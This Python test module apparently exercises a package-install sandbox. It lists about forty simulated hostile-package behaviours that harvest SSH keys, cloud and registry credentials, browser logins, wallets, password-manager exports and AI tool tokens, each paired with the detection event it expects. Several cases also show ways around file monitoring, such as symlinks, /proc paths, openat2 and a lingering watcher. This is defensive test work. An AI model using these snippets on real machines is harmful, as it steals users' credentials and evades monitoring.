"""Secrets in files."""
from __future__ import annotations

from ..kit import Effect, Event, Row, loot, sink

NET = Event("net.*", "net.connect", severity="high")


def opened(rule: str, path: str, severity: str = "info", as_written: str = "*", **more) -> Event:
    return Event(rule, "file.open", {"path": path, "as_written": as_written}, severity=severity, **more)


def reader(*paths: str) -> str:
    """Each of these files of the home, and all of them."""
    return f"""
import pwkit
for name in {paths!r}:
    pwkit.loot(pwkit.read(pwkit.target("home") + "/" + name))
"""


# Copies a data base of the home and opens the copy.
COPY_SQLITE = """
import os, shutil, sqlite3, tempfile, pwkit
def rows(name):
    copy = os.path.join(tempfile.mkdtemp(), "copy")
    shutil.copyfile(os.path.join(pwkit.target("home"), name), copy)
    return str(sqlite3.connect(copy).execute("select * from secrets").fetchall())
for name in NAMES:
    pwkit.loot(pwkit.attempt(rows, name) or "")
"""


def printed(world, row, result):
    return "the password of ~/.netrc in the output" * (world.secrets["home/.netrc"] in result.out + result.err)


def fake_managers(world, row):
    """Password managers' commands that show what they have stored."""
    for name, path in (("op", ".config/op/config"), ("bw", ".config/Bitwarden CLI/data.json")):
        world.system(f"/usr/local/bin/{name}", f'#!/bin/sh\ncat "{world.home}/{path}"\n', 0o755)


def own_files_to_move(world, row):
    world.plant("home/.aws/sf27-credentials")
    world.plant("home/.aws/sf27/credentials")


def caller(world, row):
    """A program of the user's with a key in it, and another file of its project."""
    world.write(world.venv / "bin/sf38-caller", f"#!{world.venv}/bin/python\nKEY = '{world.canary(row)}'\nimport pwfix_sf38\n", 0o755)


def login_later(world, row, result):
    """The user logs in after the command has ended: whoever still watches reads it."""
    path = world.home / ".aws/sf39-token"
    if not path.exists():
        world.plant("home/.aws/sf39-token")
    return world.evidence(row, result, {}, (loot(),))


WATCH = """
import ctypes, os, select, sys, time
sys.path.insert(0, os.environ["PWKIT"])
import pwkit
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0)
folder = pwkit.target("home") + "/.aws"
watch = libc.inotify_add_watch(fd, folder.encode(), 0x100 | 0x8)
open("watching", "w").close()
if watch < 0:
    raise SystemExit(1)
if select.select([fd], [], [], 90)[0]:  # the others of its batch take their time
    time.sleep(0.1)
    pwkit.loot(pwkit.read(folder + "/sf39-token"))
"""

ROWS = [
    Row("SF-01", "setup.py reads ~/.ssh", "metadata", reader(".ssh/id_ed25519", ".ssh/id_rsa", ".ssh/config", ".ssh/known_hosts"), loot(), (
        opened("file.ssh-key", "{home}/.ssh/id_ed25519", "critical"), opened("file.ssh-key", "{home}/.ssh/id_rsa", "critical"),
        opened("file.ssh", "{home}/.ssh/config", "medium"), opened("file.ssh", "{home}/.ssh/known_hosts", "medium"), NET), legacy=True),
    Row("SF-02", "tar packs ~/.ssh, ~/.aws and ~/.kube", "build", """
        import os, subprocess, tarfile, tempfile, pwkit
        archive = os.path.join(tempfile.mkdtemp(), "tpcp.tar.gz")
        home = pwkit.target("home")
        subprocess.run(["tar", "czf", archive] + [home + "/" + n for n in (".ssh", ".aws", ".kube")], timeout=20)
        with tarfile.open(archive) as tar:
            pwkit.loot(b"".join(tar.extractfile(m).read() for m in tar if m.isfile()))
        """, loot(), (opened("file.*", "{home}/.ssh*", process={"exe": "*/tar"}), opened("file.aws", "{home}/.aws*", "critical", process={"exe": "*/tar"}))),
    Row("SF-03", "~/.aws through configparser and json", "import", """
        import configparser, glob, json, pwkit
        home, found = pwkit.target("home"), []
        for name in ("credentials", "config"):
            parser = configparser.ConfigParser()
            parser.read(home + "/.aws/" + name)
            found += [str(dict(parser[s])) for s in parser.sections()]
        for path in glob.glob(home + "/.aws/sso/cache/*.json") or [home + "/.aws/sso/cache/0a1b.json"]:
            found.append(str(pwkit.attempt(lambda: json.load(open(path)))))
        pwkit.loot(str(found))
        """, loot(), (opened("file.aws", "{home}/.aws/credentials", "critical"), opened("file.aws", "{home}/.aws/config"), opened("file.aws", "{home}/.aws/sso*"))),
    Row("SF-04", "gcloud's login and a copy of its data base", "metadata", reader(".config/gcloud/application_default_credentials.json")
        + COPY_SQLITE.replace("NAMES", "['.config/gcloud/credentials.db']"), loot(), (
            opened("file.gcloud", "{home}/.config/gcloud/application_default_credentials.json", "critical"),
            opened("file.gcloud", "{home}/.config/gcloud/credentials.db", "critical"), NET)),
    Row("SF-05", "Azure's tokens, kubectl's, the pod's own", "import", reader(".azure/msal_token_cache.json", ".kube/config") + """
pwkit.loot(pwkit.read("/var/run/secrets/kubernetes.io/serviceaccount/token"))
""", loot(), (opened("file.azure", "{home}/.azure/msal_token_cache.json", "critical"), opened("file.kube", "{home}/.kube/config", "critical"),
              opened("file.kube", "/run/secrets/kubernetes.io/serviceaccount/token", "critical"), NET)),
    Row("SF-06", "logins of container registries", "import", """
        import base64, json, pwkit
        auths = json.load(open(pwkit.target("home") + "/.docker/config.json"))["auths"]
        pwkit.loot(b" ".join(base64.b64decode(v["auth"]) for v in auths.values()))
        """, loot(), opened("file.docker", "{home}/.docker/config.json", "critical")),
    Row("SF-07", "a build reads ~/.netrc, ~/.pypirc and pip.conf", "build", reader(".netrc", ".pypirc", ".config/pip/pip.conf"), loot(), (
        opened("file.netrc", "{home}/.netrc", "high"), opened("file.pypirc", "{home}/.pypirc", "critical"),
        opened("file.pip-config", "{home}/.config/pip/pip.conf"), NET)),
    Row("SF-08", "git's stored login: the file, `credential fill`, the configuration", "metadata", """
        import os, subprocess, pwkit
        env = {**os.environ, "HOME": pwkit.target("home"), "GIT_TERMINAL_PROMPT": "0"}
        env.pop("XDG_CONFIG_HOME", None)
        pwkit.loot(pwkit.read(pwkit.target("home") + "/.git-credentials"))
        for words, stdin in ((["credential", "fill"], b"url=https://github.com\\n\\n"), (["config", "--list", "--show-origin"], b"")):
            pwkit.loot(subprocess.run(["git", *words], env=env, input=stdin, stdout=subprocess.PIPE, timeout=20).stdout)
        """, loot(), (opened("file.git-credentials", "{home}/.git-credentials", "critical"),
                      opened("file.git-config", "{home}/.gitconfig", process={"exe": "*/git"}), NET), needs=("git",)),
    Row("SF-09", ".env files of the folders above and below", "import", """
        import os, pwkit
        names = (".env", ".env.local", ".env.production")
        folder = pwkit.target("home") + "/project/src"
        while True:
            for name in names:
                pwkit.loot(pwkit.read(os.path.join(folder, name)))
            if folder == "/":
                break
            folder = os.path.dirname(folder)
        for top in (pwkit.target("home"), pwkit.target("work")):
            for path, folders, files in os.walk(top):
                folders[:] = folders if path[len(top):].count("/") < 6 else []
                for name in files:
                    if name.startswith(".env") and name != ".env.example":
                        pwkit.loot(pwkit.read(os.path.join(path, name)))
        """, loot(), (opened("file.dotenv", "{home}/project/.env", "high"), opened("file.dotenv", "{home}/project/src/.env.local", "high"))),
    Row("SF-10", "shell histories through `head`", "metadata", """
        import subprocess, pwkit
        for name in (".bash_history", ".zsh_history", ".python_history", ".psql_history"):
            pwkit.loot(subprocess.run("cat %s/%s | head -n 100" % (pwkit.target("home"), name), shell=True, stdout=subprocess.PIPE).stdout)
        """, loot(), tuple(opened("file.history", "{home}/" + n, "high") for n in (".bash_history", ".zsh_history", ".python_history", ".psql_history"))),
    Row("SF-11", "the first 1,000 small files of the home, breadth first", "import", """
        import collections, os, pwkit
        todo, found = collections.deque([pwkit.target("home")]), []
        while todo and len(found) < 1000:
            for entry in sorted(pwkit.attempt(os.scandir, todo.popleft()) or (), key=lambda e: e.name):
                if entry.is_dir(follow_symlinks=False):
                    todo.append(entry.path)
                elif entry.is_file() and entry.stat().st_size < 100000:
                    found.append(pwkit.read(entry.path))
        pwkit.loot(b"".join(found))
        """, loot(), opened("file.read.outside", "{home}")),
    Row("SF-12", "/etc/passwd, hosts, resolv.conf and /home's names are posted", "metadata", """
        import os, pwkit
        found = b"".join(pwkit.read(p) for p in ("/etc/passwd", "/etc/hosts", "/etc/resolv.conf")) + repr(pwkit.attempt(os.listdir, "/home")).encode()
        pwkit.leak(pwkit.target("canary").encode() + found)
        """, sink(), NET, note="these files are read by libc for everyone; that a package's own code did so is the business of attribution"),
    Row("SF-13", "/etc/shadow, auth.log and the host's SSH key, as root", "import", """
        import pwkit
        for path in ("/etc/shadow", "/var/log/auth.log", "/etc/ssh/ssh_host_rsa_key"):
            pwkit.loot(pwkit.read(path))
        """, loot(), (opened("file.shadow", "/etc/shadow", "high"), opened("file.shadow", "/var/log/auth.log", "high"),
                      opened("file.ssh-key", "/etc/ssh/ssh_host_rsa_key", "critical")),
        note="no baseline (user): the files are root's"),
    Row("SF-14", "browser profiles, copied and opened", "import", reader(".mozilla/firefox/x1.default/logins.json") + COPY_SQLITE.replace(
        "NAMES", "['.mozilla/firefox/x1.default/key4.db', '.config/google-chrome/Default/Login Data', '.config/google-chrome/Default/Cookies']"), loot(), (
            opened("file.browser", "{home}/.mozilla/firefox/x1.default/logins.json", "high"),
            opened("file.browser", "{home}/.mozilla/firefox/x1.default/key4.db", "high"),
            opened("file.browser", "{home}/.config/google-chrome/Default/Login Data", "high"),
            opened("file.browser", "{home}/.config/google-chrome/Default/Cookies", "high"))),
    Row("SF-15", "wallets of programs and of browser extensions", "import", reader(
        ".bitcoin/wallet.dat", ".config/solana/id.json", ".electrum/wallets/default_wallet",
        ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log"), loot(), (
            opened("file.wallet", "{home}/.bitcoin/wallet.dat", "critical"), opened("file.wallet", "{home}/.config/solana/id.json", "critical"),
            opened("file.wallet", "{home}/.electrum/wallets/default_wallet", "critical"), opened("file.browser", "{home}/.config/google-chrome/Default/Local*", "high"))),
    Row("SF-16", "a messenger's tokens by a pattern", "metadata", """
        import glob, re, pwkit
        folder = pwkit.target("home") + "/.config/discord/Local Storage/leveldb/"
        for path in glob.glob(folder + "*.ldb") or [folder + "000005.ldb"]:
            pwkit.loot(b" ".join(re.findall(rb'token"([^"]+)"', pwkit.read(path))))
        """, loot(), opened("file.messenger", "{home}/.config/discord/Local Storage/leveldb/000005.ldb", "high")),
    Row("SF-17", "secret stores, and their commands", "import", reader(".vault-token", ".config/Bitwarden CLI/data.json") + """
import subprocess
for command in (["/usr/local/bin/op", "item", "list"], ["/usr/local/bin/bw", "export"]):
    pwkit.loot(pwkit.attempt(lambda: subprocess.run(command, stdout=subprocess.PIPE, timeout=20).stdout) or b"")
""", loot(), (opened("file.vault", "{home}/.vault-token", "critical"), opened("file.vault", "{home}/.config/Bitwarden CLI/data.json", "critical"),
              opened("file.vault", "{home}/.config/op/config", "critical")), setup=fake_managers),
    Row("SF-18", "GnuPG's private keys", "metadata", """
        import os, pwkit
        home = pwkit.target("home") + "/.gnupg"
        for name in pwkit.attempt(os.listdir, home + "/private-keys-v1.d") or ["0A1B.key"]:
            pwkit.loot(pwkit.read(home + "/private-keys-v1.d/" + name))
        pwkit.loot(pwkit.read(home + "/trustdb.gpg"))
        """, loot(), (opened("file.gnupg", "{home}/.gnupg/private-keys-v1.d/0A1B.key", "critical"), opened("file.gnupg", "{home}/.gnupg/trustdb.gpg", "critical"))),
    Row("SF-19", "logins of npm, cargo and terraform, state files in the working folder", "import", reader(
        ".npmrc", ".cargo/credentials.toml", ".terraform.d/credentials.tfrc.json") + """
import glob
for path in glob.glob("*.tfstate") or ["main.tfstate"]:
    pwkit.loot(pwkit.read(path))
""", loot(), (opened("file.npmrc", "{home}/.npmrc", "high"), opened("file.cargo", "{home}/.cargo/credentials.toml", "high"),
              opened("file.infrastructure", "{home}/.terraform.d/credentials.tfrc.json", "high"), opened("file.*", "{work}/main.tfstate"))),
    Row("SF-20", "stores of AI tools", "import", reader(".claude.json", ".codex/auth.json", ".cursor/mcp.json", ".cache/huggingface/token"), loot(), tuple(
        opened("file.ai", "{home}/" + n, "high") for n in (".claude.json", ".codex/auth.json", ".cursor/mcp.json", ".cache/huggingface/token"))),
    Row("SF-21", "the home of the password file, where $HOME says another", "metadata", """
        import glob, os, pwd, pwkit
        for home in [pwd.getpwuid(os.getuid()).pw_dir] + glob.glob("/home/*"):
            pwkit.loot(pwkit.read(home + "/.netrc"))
        """, loot(), opened("file.netrc", "*/.netrc", "high")),
    Row("SF-22", "a link in the build folder that leads to ~/.netrc", "build", """
        import os, pwkit
        os.makedirs("src")
        os.symlink(os.path.relpath(pwkit.target("home") + "/.netrc", os.path.realpath("src")), "src/data.txt")
        pwkit.loot(pwkit.read("src/data.txt"))
        """, loot(), opened("file.netrc", "{home}/.netrc", "high")),
    Row("SF-23", "a hard link to ~/.netrc in the build folder", "build", """
        import os, pwkit
        os.link(pwkit.target("home") + "/.netrc", "harmless.txt")
        pwkit.loot(pwkit.read("harmless.txt"))
        """, loot(), Event(("file.link.protected", "file.netrc"), ("file.write", "file.open"), {"path": "{home}/.netrc"}, severity="high")),
    Row("SF-24", "relative to an open folder, and to the working folder", "build", """
        import os, pwkit
        home = os.open(pwkit.target("home"), os.O_PATH | os.O_DIRECTORY)
        fd = pwkit.attempt(os.open, ".aws/credentials", os.O_RDONLY, dir_fd=home)
        if fd is not None:
            pwkit.loot(os.read(fd, 10000))
        before = os.open(".", os.O_PATH)
        os.fchdir(home)
        pwkit.loot(pwkit.read(".aws/config"))
        os.fchdir(before)
        """, loot(), (opened("file.aws", "{home}/.aws/credentials", "critical"), opened("file.aws", "{home}/.aws/config", "critical"))),
    Row("SF-25", "the same file by way of /proc/self", "build", """
        import os, pwkit
        home, up = pwkit.target("home"), "../" * (os.getcwd().count("/"))
        for path in ("/proc/self/root" + home + "/.netrc", "/proc/self/cwd/" + up + home[1:] + "/.netrc", "/proc/thread-self/root" + home + "/.netrc",
                     "//proc//self//root//" + home + "/.netrc"):
            pwkit.loot(pwkit.read(path))
        """, loot(), opened("file.netrc", "{home}/.netrc", "high")),
    Row("SF-26", "root, cwd and descriptors of pip's in /proc", "build", """
        import glob, os, pwkit
        mine = {str(os.getpid())}
        for pid in sorted((p for p in os.listdir("/proc") if p.isdigit() and p not in mine), key=int):
            pwkit.loot(pwkit.read("/proc/%s/root%s/.netrc" % (pid, pwkit.target("home"))))
            pwkit.loot(pwkit.read("/proc/%s/cwd/.env" % pid))
            for fd in (pwkit.attempt(os.listdir, "/proc/%s/fd" % pid) or [])[:20]:
                path = "/proc/%s/fd/%s" % (pid, fd)
                if os.path.isfile(path) and os.path.getsize(path) < 100000:
                    pwkit.loot(pwkit.read(path))
        """, loot(), Event(("file.netrc", "process.inspect"), "file.open", {"path": "{home}/.netrc", "as_written": "/proc/*/root/*"})),
    Row("SF-27", "credentials are moved into the build folder, then read", "build", """
        import os, pwkit
        home = pwkit.target("home") + "/.aws"
        pwkit.attempt(os.rename, home + "/sf27-credentials", "c")
        pwkit.attempt(os.rename, home + "/sf27", "d")
        pwkit.loot(pwkit.read("c"))
        pwkit.loot(pwkit.read("d/credentials"))
        """, (loot(), Effect.file("home/.aws/sf27-credentials"), Effect.file("home/.aws/sf27")), (
            Event(("file.*",), "file.write", {"path": "{home}/.aws/sf27-credentials"}), Event(("file.*",), "file.write", {"path": "{home}/.aws/sf27"})),
        setup=own_files_to_move),
    Row("SF-28", "openat2 with its flags in memory", "build", native="openat2_home", effect=loot(), event=(
        opened("file.netrc", "{home}/.netrc", "high"), Event("file.aws", "file.open", {"path": "{home}/.aws/credentials", "name": "openat2"}))),
    Row("SF-29", "by a file handle", "build", native="by_handle", effect=loot(), event=Event("syscall.handle", "syscall.denied", severity="medium"),
        note="no baseline (user): it takes CAP_DAC_READ_SEARCH"),
    Row("SF-30", "io_uring opens and reads", "build", native="io_uring_read", effect=loot(), event=Event("syscall.io_uring", "syscall.denied")),
    Row("SF-33", "which of 60 credential files exist", "import", """
        import os, pwkit
        home, bits = pwkit.target("home"), ""
        names = [".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".netrc", ".pypirc", ".npmrc", ".kube/config", ".docker/config.json", ".vault-token",
                 ".git-credentials"] + ["%s/%d" % (n, i) for n in (".azure", ".gnupg", ".config/gh", ".config/op", ".bitcoin") for i in range(10)]
        for name in names:
            path = os.path.join(home, name)
            bits += "%d%d" % (os.access(path, os.F_OK), os.path.exists(path))
        bits += str([pwkit.attempt(os.listdir, os.path.join(home, n)) for n in ("", ".ssh", ".aws")])
        pwkit.leak(pwkit.target("canary") + bits)
        """, sink(), (opened("file.*", "{home}/.ssh"), NET),
        note="stat and access are not governed: that a file exists can be learnt, and told to nobody; opens and listings are refused and recorded"),
    Row("SF-34", "a secret is printed during the install", "metadata", """
        import pwkit
        print(open(pwkit.target("home") + "/.netrc").read(), flush=True)
        """, Effect.call(printed), opened("file.netrc", "{home}/.netrc", "high"), legacy=True),
    Row("SF-35", "mmap in another thread; sendfile, splice, copy_file_range", "build", native="without_read", effect=loot(),
        event=opened("file.netrc", "{home}/.netrc", "high")),
    Row("SF-37", "the project that pip was run in", "metadata", """
        import glob, os, pwkit
        folders = [pwkit.target("work")] + glob.glob("/proc/[0-9]*/cwd")  # the first as $OLDPWD says it
        for folder in folders:
            for name in (".git/config", "docker-compose.yml", "config/app.yml", "settings.py"):
                pwkit.loot(pwkit.read(os.path.join(folder, name)))
        """, loot(), opened("file.*", "{work}/settings.py")),
    Row("SF-38", "the source of whoever imports it", "import", """
        import inspect, sys, pwkit
        names = {frame.filename for frame in inspect.stack()} | {getattr(sys.modules["__main__"], "__file__", "")}
        pwkit.leak(b"".join(pwkit.read(n) for n in names if not n.startswith("<")))
        pwkit.loot(pwkit.read(pwkit.target("work") + "/settings.py"))
        """, (sink(), loot()), (opened("file.*", "{work}/settings.py"), NET), setup=caller, command=("{venv}/bin/sf38-caller",)),
    Row("SF-39", "a process waits for the user to log in", "after", """
        import os, time, pwkit
        os.environ["PWKIT"] = os.getcwd()
        pwkit.detach(pwkit.target("code"))
        until = time.monotonic() + 20
        while not os.path.exists("watching") and time.monotonic() < until:
            time.sleep(0.01)
        """, Effect.call(login_later), None, setup=lambda world, row: {"code": WATCH},
        note="a watch shows names and no contents; the watcher ends with the run"),
    Row("SF-40", "~/.ssh/id_rsa by other spellings", "build", """
        import os, pwkit
        home = pwkit.target("home")
        long = home + "/" + "./" * ((4080 - len(home)) // 2)
        for path in (home + "/.ssh/./../.ssh/id_rsa", home + "/.SSH/ID_RSA", home + "//.ssh///id_rsa", home + "/.ssh/../.ssh/id_ed25519/.", long[:4070 - 11] + ".ssh/id_rsa"):
            pwkit.loot(pwkit.read(path))
        """, loot(), opened("file.ssh-key", "{home}/.ssh/id_rsa", "critical")),
]
